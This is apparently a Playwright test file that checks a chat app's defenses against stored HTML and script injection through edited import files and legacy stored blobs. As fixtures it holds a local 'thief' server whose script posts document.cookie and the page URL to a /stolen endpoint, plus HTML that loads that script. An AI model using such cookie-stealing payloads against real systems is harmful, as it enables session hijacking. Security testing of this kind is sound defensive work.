// Nothing the app keeps opens as a page of the app: an imported file whose rows make one image
// also an HTML file is refused, an image opens full size in a viewer inside the page (never in a
// tab of its own), and bytes kept by an earlier version that are no image are never shown as one.
import { createServer, type Server } from 'node:http';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test, type Page } from './test-base';
import { openApp, sessionIdFromUrl, sessionLinks, transcript, waitForAnswer } from './helpers';
import { addCustomProvider, navigate, readRows } from './plugin-helpers';
import { chooseModel } from './provider-helpers';
import { attachByButton, png, send } from './attachment-helpers';
import { createProfile } from './profile-helpers';
import { useMockProvider } from './test-servers';

const mock = useMockProvider();
const PHOTO = { name: 'photo.png', mimeType: 'image/png', buffer: png(30, 20) };

/** A server on this machine that records every request: the script an attacker's page would load, and where it would send the key. */
let thief: { server: Server; url: string; requests: string[] };

test.beforeAll(async () => {
	const requests: string[] = [];
	const server = createServer((request, response) => {
		requests.push(request.url ?? '');
		response.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' });
		response.end(`fetch(${JSON.stringify(`http://127.0.0.1:${(server.address() as AddressInfo).port}/stolen`)}, { method: 'POST', body: document.cookie + location.href });`);
	});
	await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
	thief = { server, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, requests };
});

let dir: string;

test.beforeEach(async () => {
	dir = await mkdtemp(join(tmpdir(), 'palimpsest-stored-'));
	thief.requests.length = 0;
});

test.afterEach(async () => {
	await rm(dir, { recursive: true, force: true });
});

test.afterAll(async () => {
	await new Promise((resolve) => thief.server.close(resolve));
});

const status = (page: Page) => page.getByRole('status', { name: 'Transfer status' });
const hostileHtml = () => `<!doctype html><title>n</title><script src="${thief.url}/x.js"></script>`;

async function exportFile(page: Page): Promise<string> {
	await navigate(page, 'Settings');
	const download = page.waitForEvent('download');
	await page.getByRole('button', { name: 'Export', exact: true }).click();
	const file = await download;
	const path = join(dir, file.suggestedFilename());
	await file.saveAs(path);
	return readFile(path, 'utf8');
}

async function importFile(page: Page, name: string, text: string): Promise<void> {
	const path = join(dir, name);
	await writeFile(path, text);
	await navigate(page, 'Settings');
	const chooser = page.waitForEvent('filechooser');
	await page.getByRole('button', { name: 'Import', exact: true }).click();
	await (await chooser).setFiles(path);
}

/** A session with a PNG attached, sent to a model that sees it, with the key `sk-secret` saved. */
async function sendPhoto(page: Page): Promise<void> {
	await openApp(page);
	await chooseModel(page, await addCustomProvider(page, `${mock.url}/v1`, 'vision-model', 'sk-secret'));
	await attachByButton(page, [PHOTO]);
	await send(page, 'What is in the picture?');
	await waitForAnswer(page);
}

type Row = { seq: number; attachments?: Array<Record<string, unknown>> };
type Entry = { messages: Row[]; images: Array<{ id: string; type: string; data: string }> };

test('an export edited so that a later message shows its image as an HTML file is refused, and a genuine image opens in the page', async ({ page, context }) => {
	const opened: Page[] = [];
	context.on('page', (added) => void opened.push(added));
	await sendPhoto(page);
	const genuine = await exportFile(page);

	// The attack: the answer gets a file attachment with the image's id, whose bytes become HTML loading a script.
	const file = JSON.parse(genuine) as { sessions: Entry[] };
	const [entry] = file.sessions;
	const shown = entry.messages.find((row) => row.attachments?.length)!;
	const imageId = String(shown.attachments![0].id);
	const html = Buffer.from(hostileHtml());
	entry.messages.find((row) => row.seq > shown.seq)!.attachments = [{ type: 'file', id: imageId, name: 'n.html', mimeType: 'text/html', size: html.length }];
	entry.images = entry.images.map((image) => (image.id === imageId ? { id: imageId, type: 'text/html', data: html.toString('base64') } : image));

	await createProfile(page, 'Elsewhere');
	await importFile(page, 'edited.json', JSON.stringify(file));
	await expect(status(page)).toHaveText(
		new RegExp(`^Import refused: The file is malformed: session \\S+ shows ${imageId} as a PNG image \\(image/png\\) in message 1 and as a file “n\\.html” \\(text/html\\) in message 2: one image or file is one thing, of one type\\. Nothing was changed\\.$`)
	);
	await expect(sessionLinks(page)).toHaveCount(0);

	// The genuine file: its image is a thumbnail that opens full size in a dialog of the page.
	await importFile(page, 'genuine.json', genuine);
	await expect(status(page)).toHaveText('Imported 1 session (2 messages).');
	await sessionLinks(page).first().click();
	const thumbnail = transcript(page).getByRole('button', { name: 'photo.png (30 × 20), open full size' });
	await thumbnail.click();
	const viewer = page.getByRole('dialog', { name: 'photo.png (30 × 20)' });
	const full = viewer.getByRole('img', { name: 'photo.png (30 × 20)' });
	await expect(full).toBeVisible();
	await expect.poll(() => full.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(30);
	await expect(viewer.getByRole('button', { name: 'Close' })).toBeFocused();
	await page.keyboard.press('Escape');
	await expect(viewer).toBeHidden();
	await expect(thumbnail).toBeFocused();
	// From the keyboard too; Close closes it.
	await thumbnail.press('Enter');
	await expect(full).toBeVisible();
	await page.keyboard.press('Enter');
	await expect(viewer).toBeHidden();

	await expect.poll(() => opened.length).toBe(0);
	await expect.poll(() => thief.requests).toEqual([]);
});

test('bytes an earlier version kept under an image that are HTML are never shown or opened: the message says so', async ({ page, context }) => {
	const opened: Page[] = [];
	context.on('page', (added) => void opened.push(added));
	await sendPhoto(page);
	const sessionId = sessionIdFromUrl(page);
	const [row] = (await readRows(page, 'palimpsest-default', 'messages')).filter((message) => Array.isArray(message.attachments));
	const imageId = String((row.attachments as Array<{ id: string }>)[0].id);
	// What an import before this check could leave: the image's id holding HTML, kept as text/html.
	await page.evaluate(
		([sessionId, imageId, html]) =>
			new Promise<void>((resolve, reject) => {
				const request = indexedDB.open('palimpsest-default');
				request.onerror = () => reject(request.error);
				request.onsuccess = () => {
					const db = request.result;
					const tx = db.transaction('blobs', 'readwrite');
					tx.objectStore('blobs').put({ session_id: sessionId, id: imageId, type: 'text/html', data: new Blob([html], { type: 'text/html' }) });
					tx.oncomplete = () => {
						db.close();
						resolve();
					};
					tx.onerror = () => reject(tx.error);
				};
			}),
		[sessionId, imageId, hostileHtml()] as const
	);
	await page.reload();
	const sent = transcript(page).getByRole('article').filter({ hasText: 'What is in the picture?' });
	await expect(sent.getByText('photo.png (30 × 20): the bytes kept for this image are not an image, so they are not shown.')).toBeVisible();
	await expect(sent.getByRole('button', { name: /open full size/ })).toHaveCount(0);
	await expect(sent.getByRole('link')).toHaveCount(0);
	await expect.poll(() => opened.length).toBe(0);
	await expect.poll(() => thief.requests).toEqual([]);
});
